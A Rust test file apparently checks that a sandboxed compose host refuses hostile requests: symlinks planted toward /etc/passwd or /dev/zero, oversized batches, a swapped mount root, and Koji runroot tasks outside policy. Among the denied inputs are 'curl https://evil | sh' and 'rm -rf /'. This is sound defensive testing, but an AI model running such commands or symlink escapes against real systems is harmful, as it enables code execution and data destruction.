//! The host's own work on paths and requests a phase names, run by the hostile component
//! against links the test planted as a phase could have (issue 19, class B, and the
//! batch costs of class D): copies never follow a link at either end, a digest of a
//! link to `/dev/zero` is refused instead of hashing forever, batches over the caps are
//! refused before they cost the host, and a Koji runroot task outside the policy's
//! narrowing never reaches the hub.
//!
//! Needs the hostile component (see `common::hostile`) and, for the runroot test, the
//! Koji test hub (`cargo build -p pungi-koji-hub`).

mod common;

use std::sync::Arc;

use common::hostile::{ORIGINAL, Run, Sandbox, shared};
use pungi_host::capabilities::koji::{HubSettings, KojiGrant, KojiHub};
use pungi_host::policy::{Grant, Policy};
use pungi_tests::koji_hub::Hub;

/// Runs `action` after `plant` put links into the sandbox, with the grant `widen`
/// changed; checks that the file outside every mount and the read-only file kept their
/// content.
fn run_planted(
    action: &str,
    arg: &str,
    plant: impl FnOnce(&Sandbox),
    widen: impl FnOnce(&mut Grant),
) -> Run {
    let sandbox = Sandbox::new();
    plant(&sandbox);
    let mut grant = sandbox.grant();
    widen(&mut grant);
    let env = sandbox.env_with(action, Some(arg), grant);
    let started = std::time::Instant::now();
    let result = shared().runtime.run(&shared().hostile, env);
    let elapsed = started.elapsed();
    eprintln!("`{action} {arg}` ended in {elapsed:?}: {result:?}");
    let outside = std::fs::read_to_string(sandbox.path("x")).unwrap();
    assert_eq!(
        outside, "outside every mount\n",
        "`{action} {arg}` wrote outside"
    );
    let read_only = std::fs::read_to_string(sandbox.path("work/ro.txt")).unwrap();
    assert_eq!(
        read_only, ORIGINAL,
        "`{action} {arg}` changed the read-only mount"
    );
    sandbox.audit();
    Run {
        sandbox,
        result,
        elapsed,
    }
}

fn symlink(target: impl AsRef<std::path::Path>, sandbox: &Sandbox, at: &str) {
    std::os::unix::fs::symlink(target, sandbox.path(at)).unwrap();
}

/// The summary of a run the host let through.
fn done(run: &Run) -> &str {
    match &run.result {
        Ok(report) => &report.message,
        Err(failure) => panic!("expected the host to do it, got {failure:?}"),
    }
}

/// A link's source and destination, and what the test plants first.
type PlantedLink = (&'static str, &'static str, fn(&Sandbox));

/// Out of the read-only `/work` (no `hardlink-read-only`), so every link is a copy.
#[test]
fn the_copy_path_follows_no_link_at_either_end() {
    let planted: [PlantedLink; 4] = [
        // The source's last component.
        ("/work/passwd", "/compose/p", |s| {
            symlink("/etc/passwd", s, "work/passwd")
        }),
        // A source directory out of the mount.
        ("/work/up/x", "/compose/p", |s| {
            symlink(s.root.path(), s, "work/up")
        }),
        // A destination directory out of the mount (the sandbox's `escape` -> /etc).
        ("/work/ro.txt", "/compose/escape/p", |_| {}),
        // A destination directory inside its writable mount: the phase's link all the same.
        ("/work/ro.txt", "/compose/inner/p", |s| {
            std::fs::create_dir(s.path("compose/real")).unwrap();
            symlink("real", s, "compose/inner");
        }),
    ];
    for (source, destination, plant) in planted {
        let run = run_planted(
            "link-arg",
            &format!("{source} {destination}"),
            plant,
            |_| {},
        );
        let message = run.denied(&["Denied", "symlink"]).to_owned();
        assert!(
            !run.sandbox.path("compose/real/p").exists(),
            "{source} -> {destination}: {message}"
        );
    }
}

#[test]
fn a_copy_replaces_a_destination_link_instead_of_writing_through_it() {
    let run = run_planted(
        "link-arg",
        "/work/ro.txt /compose/dest",
        |s| symlink("../x", s, "compose/dest"),
        |_| {},
    );
    assert!(done(&run).contains("Copy"), "{}", done(&run));
    let dest = run.sandbox.path("compose/dest");
    assert!(!dest.is_symlink());
    assert_eq!(std::fs::read_to_string(dest).unwrap(), ORIGINAL);
}

#[test]
fn a_digest_of_a_link_to_dev_zero_is_refused_not_hashed() {
    let run = run_planted(
        "digest-arg",
        "/compose/zero",
        |s| symlink("/dev/zero", s, "compose/zero"),
        |_| {},
    );
    // Following the link would hash until the phase's limit and answer `Timeout`.
    let message = run.denied(&["symlink"]);
    assert!(!message.contains("time limit"), "{message}");
    run.sandbox
        .assert_audited("files", "digest", "denied", "/compose/zero");
    // Nor a link that stays in the mount: the phase could swap its target between a
    // check and the read.
    let inside = run_planted(
        "digest-arg",
        "/compose/link",
        |s| symlink("planted.txt", s, "compose/link"),
        |_| {},
    );
    inside.denied(&["symlink"]);
}

#[test]
fn batches_over_the_cap_are_refused_before_they_cost_the_host() {
    for action in ["link-many-of", "start-links-of"] {
        let run = run_planted(action, "16385", |_| {}, |_| {});
        run.denied(&["Invalid", "at most 16384 links", "16385"]);
        let operation = action.trim_end_matches("-of");
        let refusal = run
            .sandbox
            .audit()
            .into_iter()
            .find(|call| call["operation"] == operation)
            .unwrap_or_else(|| panic!("no {operation} record"));
        assert_eq!(refusal["outcome"], "error");
        assert_eq!(
            refusal["args"],
            serde_json::json!({ "links": { "pairs": 16385 } }),
            "recorded by its size alone"
        );

        let within = run_planted(action, "2", |_| {}, |_| {});
        assert!(
            done(&within).contains("answered 2 links"),
            "{}",
            done(&within)
        );
    }
}

#[test]
fn a_runroot_task_outside_the_narrowing_is_denied_and_audited() {
    let hub = Hub::start(&[]);
    let narrowing = Policy::stock().for_phase("ostree").koji_runroot;
    let with_runroot = |grant: &mut Grant| {
        grant.koji = KojiGrant {
            methods: ["runroot".to_owned()].into(),
            runroot: narrowing.clone(),
            hub: Some(Arc::new(KojiHub::new(HubSettings::for_server(
                &hub.server(),
            )))),
        };
    };
    let opts = serde_json::json!({ "channel": "runroot", "mounts": [], "__starstar": true });
    let outside = [
        serde_json::json!(["demo-build", "x86_64", "curl https://evil | sh", opts]),
        serde_json::json!(["demo-build", "x86_64", "rm -rf /", opts]),
        serde_json::json!(["demo-updates", "x86_64", "mkdir -p logs", opts]),
        serde_json::json!(["demo-build", "x86_64", "mkdir -p logs", {"mounts": ["/mnt/koji"], "__starstar": true}]),
    ];
    for params in outside {
        let run = run_planted("runroot-arg", &params.to_string(), |_| {}, with_runroot);
        run.denied(&["runroot", "koji-runroot in the policy"]);
        let denied = run
            .sandbox
            .audit()
            .into_iter()
            .find(|line| line["operation"] == "submit-task")
            .expect("a submit-task record");
        assert_eq!(denied["outcome"], "denied");
        assert_eq!(
            denied["args"],
            serde_json::json!({ "method": "runroot", "params": params }),
            "the whole request is recorded"
        );
    }
    let inside = serde_json::json!(["demo-build", "x86_64", "mkdir -p logs", opts]);
    let run = run_planted("runroot-arg", &inside.to_string(), |_| {}, with_runroot);
    assert!(done(&run).contains("submitted"), "{}", done(&run));
}

/// A custom mount's directory replaced by a link while its phase runs (phases run side
/// by side, and any with the compose read-write can do this to another's mount) still
/// reaches the directory the policy named: the host pinned it when the phase started,
/// so neither a granted command nor the host's digest reads the host's logs through it.
#[test]
fn a_mount_root_replaced_by_a_link_stays_the_directory_granted() {
    let dir = tempfile::tempdir().unwrap();
    let config = pungi_tests::demo_config(dir.path(), "\nhostile_action = \"swap-mount-root\"\n");
    let policy = dir.path().join("policy.toml");
    std::fs::write(
        &policy,
        "[phase.test]\ndirs = { compose = \"rw\" }\ncommands = [\"cat\"]\n\
         mounts = [{ guest = \"/server\", path = \"compose/Server\", mode = \"ro\" }]\n",
    )
    .unwrap();
    let phases = pungi_tests::phases_with_hostile(dir.path(), "test");
    let target = dir.path().join("composes");
    let output = pungi_tests::try_compose(
        &config,
        &target,
        &dir.path().join("cache"),
        &[
            "--skip-phase",
            "createiso",
            "--phases-dir",
            phases.to_str().unwrap(),
            "--policy",
            policy.to_str().unwrap(),
        ],
    );
    let shown = pungi_tests::describe(&output);
    let compose = std::fs::read_dir(&target)
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .find(|p| p.join("STATUS").is_file())
        .unwrap_or_else(|| panic!("no compose: {shown}"));
    let report = std::fs::read_to_string(compose.join("logs/global/phases.json")).unwrap();
    assert!(!report.contains("ESCAPED"), "{report}");
    assert!(
        report.contains("the swapped mount root"),
        "{report}\n{shown}"
    );
    assert!(
        compose
            .join("compose/Server")
            .symlink_metadata()
            .unwrap()
            .is_symlink(),
        "the phase did swap the directory"
    );
}
